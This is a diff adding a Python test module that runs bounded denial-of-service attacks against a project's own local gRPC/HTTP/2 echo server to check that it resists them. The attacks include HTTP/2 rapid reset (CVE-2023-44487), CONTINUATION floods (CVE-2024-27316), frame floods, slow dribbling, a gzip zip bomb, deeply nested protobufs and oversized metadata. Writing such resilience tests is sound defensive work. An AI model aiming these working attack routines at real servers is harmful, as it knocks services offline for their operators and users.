@@ -1,0 +1,303 @@
+"""Attacks on a server's transport: each a function that does its worst to a target, so many times, and returns.
+
+Each is bounded: a peer that the target has shut out gives up. What one returns is what the target must have done.
+"""
+
+from __future__ import annotations
+
+import socket
+import time
+import zlib
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import contextmanager
+from typing import TYPE_CHECKING, NamedTuple
+
+from hpack import Encoder
+from hyperframe.frame import (
+    ContinuationFrame,
+    Frame,
+    HeadersFrame,
+    PingFrame,
+    PriorityFrame,
+    RstStreamFrame,
+    SettingsFrame,
+    WindowUpdateFrame,
+)
+
+from solo60.example.v1.echo_pb2 import EchoManyRequest, EchoRequest
+from tests.attack.raw_peer import LARGEST_FRAME, PREFACE, RawPeer
+
+if TYPE_CHECKING:
+    from collections.abc import Callable, Iterator
+
+    from tests.attack.target import Target
+
+ECHO = "/solo60.example.v1.EchoService/Echo"
+ECHO_MANY = "/solo60.example.v1.EchoService/EchoMany"
+CANCEL = 8
+FRAMES_AT_ONCE = 100
+CONNECTIONS_AT_ONCE = 20
+LARGEST_INCREMENT = 2**31 - 1
+MEGABYTE = 1_000_000
+# As a server that asks for no more than 1 MiB takes them.
+LARGEST_MESSAGE = 1024 * 1024
+LARGEST_METADATA = 8 * 1024
+LONGEST_S = 45.0
+
+
+class Attack(NamedTuple):
+    """An attack, and how often it is repeated in the short and in the long form."""
+
+    run: Callable[[Target, int], None]
+    short: int
+    long: int
+
+
+def rapid_reset(target: Target, streams: int) -> None:
+    """Begin whole calls and reset each at once (CVE-2023-44487)."""
+    with _peers(target) as peers:
+        while streams > 0 and peers.may_go_on:
+            peer = peers.current()
+            for _ in range(FRAMES_AT_ONCE):
+                stream = peer.new_stream()
+                headers = peer.headers(stream, ECHO)
+                headers.flags.add("END_STREAM")
+                peer.send(headers, RstStreamFrame(stream, CANCEL))
+            streams -= FRAMES_AT_ONCE
+
+
+def rapid_reset_from_many(target: Target, streams: int) -> None:
+    """As rapid reset, from many connections at once: together they may hold more than one may."""
+    with ThreadPoolExecutor(CONNECTIONS_AT_ONCE) as threads:
+        list(threads.map(lambda _: rapid_reset(target, streams // CONNECTIONS_AT_ONCE), range(CONNECTIONS_AT_ONCE)))
+
+
+def whole_calls_reset(target: Target, streams: int) -> None:
+    """As rapid reset, but each call carries its message, so that a handler may begin."""
+    message = EchoRequest(text="hi").SerializeToString()
+    with _peers(target) as peers:
+        while streams > 0 and peers.may_go_on:
+            peer = peers.current()
+            stream = peer.new_stream()
+            peer.send(peer.headers(stream, ECHO))
+            peer.send_message(stream, message)
+            peer.send(RstStreamFrame(stream, CANCEL))
+            streams -= 1
+
+
+def flood(frame: Frame) -> Callable[[Target, int], None]:
+    """Return an attack that sends one frame over and over and never reads the answers."""
+
+    def run(target: Target, frames: int) -> None:
+        with _peers(target) as peers:
+            while frames > 0 and peers.may_go_on:
+                peers.current().send(*[frame] * FRAMES_AT_ONCE, reading=False)
+                frames -= FRAMES_AT_ONCE
+
+    return run
+
+
+def continuation_flood(target: Target, megabytes: int) -> None:
+    """Send headers that never end (CVE-2024-27316)."""
+    # Never indexed, so that the table of the decoder stays empty and every byte counts.
+    block = Encoder().encode([(f"x-{number}", "v" * 1000) for number in range(15)], huffman=False)
+    with _peers(target) as peers:
+        sent = 0
+        while sent < megabytes * MEGABYTE and peers.may_go_on:
+            peer = peers.current()
+            stream = peer.new_stream()
+            peer.send(HeadersFrame(stream, peer.header_block(ECHO)))
+            while not peer.is_closed and sent < megabytes * MEGABYTE and peers.may_go_on:
+                peer.send(*[ContinuationFrame(stream, block)] * 10)
+                sent += 10 * len(block)
+
+
+def window_overflow(target: Target, times: int) -> None:
+    """Grant more than a window may hold, to a connection and to a stream."""
+    for number in range(times):
+        with RawPeer(target) as peer:
+            stream = peer.new_stream() if number % 2 else 0
+            if stream:
+                peer.send(peer.headers(stream, ECHO))
+            peer.send(*[WindowUpdateFrame(stream, LARGEST_INCREMENT)] * 2)
+            peer.read_for(0.01)
+
+
+def priorities(target: Target, frames: int) -> None:
+    """Prioritise streams that do not exist, in ever deeper trees."""
+    with _peers(target) as peers:
+        while frames > 0 and peers.may_go_on:
+            peer = peers.current()
+            streams = [peer.new_stream() for _ in range(FRAMES_AT_ONCE)]
+            peer.send(*[PriorityFrame(stream, depends_on=max(stream - 2, 0), stream_weight=255) for stream in streams])
+            frames -= FRAMES_AT_ONCE
+
+
+def dribble(target: Target, connections: int) -> None:
+    """Send calls one byte at a time, each on a connection of its own."""
+    peers = [RawPeer(target, preface=False) for _ in range(connections)]
+    for peer in peers:
+        stream = peer.new_stream()
+        headers = peer.headers(stream, ECHO)
+        headers.flags.add("END_STREAM")
+        for byte in PREFACE + SettingsFrame(0).serialize() + headers.serialize():
+            peer.send_bytes(bytes([byte]))
+    for peer in peers:
+        with peer:
+            peer.read_for(0.01)
+
+
+def idle_connections(target: Target, connections: int) -> None:
+    """Hold connections open and say nothing on them, until the target closes them or for a while."""
+    idle = [socket.create_connection(("127.0.0.1", target.port)) for _ in range(connections)]
+    time.sleep(connections / 200)
+    for each in idle:
+        each.close()
+
+
+def zip_bomb(target: Target, times: int) -> None:
+    """Send messages that are small until they are unpacked: 200 MB of zeros each."""
+    packer = zlib.compressobj(wbits=31)
+    bomb = b"".join(packer.compress(bytes(MEGABYTE)) for _ in range(200)) + packer.flush()
+    for _ in range(times):
+        assert _status_of(target, bomb, ("grpc-encoding", "gzip")) != "0"
+
+
+def deep_nesting(target: Target, times: int) -> None:
+    """Send a message in a message, 10,000 levels deep."""
+    levels = 10_000
+    group_start, group_end = b"\x7b", b"\x7c"
+    message = b""
+    for _ in range(levels):
+        message = b"\x1a" + _varint(len(message)) + message
+        if len(message) > LARGEST_FRAME * 3:
+            break
+    for _ in range(times):
+        assert _status_of(target, group_start * levels + group_end * levels) == "3"
+        assert _status_of(target, message) != "0"
+
+
+def repeated_fields(target: Target, times: int) -> None:
+    """Repeat a field a million times, and as often as the longest message allows."""
+    empty_period = b"\x1a\x00"
+    for _ in range(times):
+        assert _status_of(target, empty_period * 1_000_000) != "0"
+        assert _status_of(target, empty_period * (LARGEST_MESSAGE // 2 - 100)) == "3"
+
+
+def huge_any(target: Target, times: int) -> None:
+    """Send an Any of the largest size in an unknown field, and a larger one than is taken."""
+    type_url = b"\x0a\x28type.googleapis.com/solo60.session.v1.X01"
+    for size in (LARGEST_MESSAGE - 200, 3 * LARGEST_MESSAGE):
+        packed = type_url + b"\x12" + _varint(size) + b"\xff" * size
+        message = EchoRequest(text="hi").SerializeToString() + b"\x7a" + _varint(len(packed)) + packed
+        for _ in range(times):
+            status = _status_of(target, message)
+            assert status == "0" if size < LARGEST_MESSAGE else status != "0"
+
+
+def large_metadata(target: Target, times: int) -> None:
+    """Send metadata of many sizes, in one header and in very many."""
+    for number in range(times):
+        for size in (4_000, 9_000, 15_000, 64_000, MEGABYTE):
+            extra = [("x-large", "v" * size)] if number % 2 else [(f"x-{n}", "v" * 10) for n in range(size // 50)]
+            with RawPeer(target) as peer:
+                stream = peer.new_stream()
+                peer.send_headers(stream, peer.header_block(ECHO, extra))
+                peer.send_message(stream, EchoRequest(text="hi").SerializeToString())
+                peer.read_verdict()
+                assert size > LARGEST_METADATA or peer.statuses["0"] == 1
+
+
+def garbage(target: Target, times: int) -> None:
+    """Speak other protocols, and none."""
+    client_hello = bytes.fromhex("16030100500100004c0303") + bytes(69)
+    bad_frames = PREFACE + b"\xff\xff\xff\x00\xff\x7f\xff\xff\xff" * 100
+    for _ in range(times):
+        for said in (b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", client_hello, b"\x00" * 5_000, bad_frames, PREFACE[:10]):
+            with RawPeer(target, preface=False) as peer:
+                peer.send_bytes(said)
+                peer.read_for(0.01)
+
+
+def slow_reader(target: Target, streams: int) -> None:
+    """Ask for streams of answers and never make room for them."""
+    request = EchoManyRequest(text="v" * 1000, repeat=1000).SerializeToString()
+    with RawPeer(target) as peer:
+        peer.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}))
+        for _ in range(streams):
+            stream = peer.new_stream()
+            peer.send(peer.headers(stream, ECHO_MANY))
+            peer.send_message(stream, request)
+        peer.read_for(1.0)
+
+
+ATTACKS = {
+    "rapid reset": Attack(rapid_reset, 2_000, 50_000),
+    "rapid reset from many": Attack(rapid_reset_from_many, 5_000, 50_000),
+    "whole calls reset": Attack(whole_calls_reset, 1_000, 20_000),
+    "pings": Attack(flood(PingFrame(0, b"12345678")), 2_000, 500_000),
+    "settings": Attack(flood(SettingsFrame(0, settings={SettingsFrame.MAX_FRAME_SIZE: 20_000})), 2_000, 500_000),
+    "continuations": Attack(continuation_flood, 10, 216),
+    "window overflow": Attack(window_overflow, 10, 200),
+    "priorities": Attack(priorities, 2_000, 200_000),
+    "dribble": Attack(dribble, 3, 100),
+    "idle connections": Attack(idle_connections, 100, 2_000),
+    "zip bomb": Attack(zip_bomb, 2, 20),
+    "deep nesting": Attack(deep_nesting, 2, 50),
+    "repeated fields": Attack(repeated_fields, 1, 20),
+    "huge Any": Attack(huge_any, 1, 20),
+    "large metadata": Attack(large_metadata, 2, 10),
+    "garbage": Attack(garbage, 5, 100),
+    "slow reader": Attack(slow_reader, 50, 100),
+}
+
+
+class _Peers:
+    """One peer after another, each until the target shuts it out."""
+
+    def __init__(self, target: Target) -> None:
+        self._target = target
+        self._peer: RawPeer | None = None
+        self._until = time.monotonic() + LONGEST_S
+
+    @property
+    def may_go_on(self) -> bool:
+        """Whether there is time left."""
+        return time.monotonic() < self._until
+
+    def current(self) -> RawPeer:
+        """Return the peer of now."""
+        if self._peer is None or self._peer.is_closed:
+            self.close()
+            self._peer = RawPeer(self._target)
+        return self._peer
+
+    def close(self) -> None:
+        """Close the last one."""
+        if self._peer is not None:
+            self._peer.close()
+
+
+@contextmanager
+def _peers(target: Target) -> Iterator[_Peers]:
+    peers = _Peers(target)
+    try:
+        yield peers
+    finally:
+        peers.close()
+
+
+def _status_of(target: Target, message: bytes, encoding: tuple[str, str] | None = None) -> str:
+    """Call Echo with these bytes; return the gRPC status, or "" where the target has ended stream or connection."""
+    with RawPeer(target) as peer:
+        stream = peer.new_stream()
+        peer.send(peer.headers(stream, ECHO, [encoding] if encoding else []))
+        peer.send_message(stream, message, compressed=encoding is not None)
+        peer.read_verdict()
+        return next(iter(peer.statuses), "")
+
+
+def _varint(number: int) -> bytes:
+    low, rest = number & 0x7F, number >> 7
+    return bytes([low | 0x80]) + _varint(rest) if rest else bytes([low])
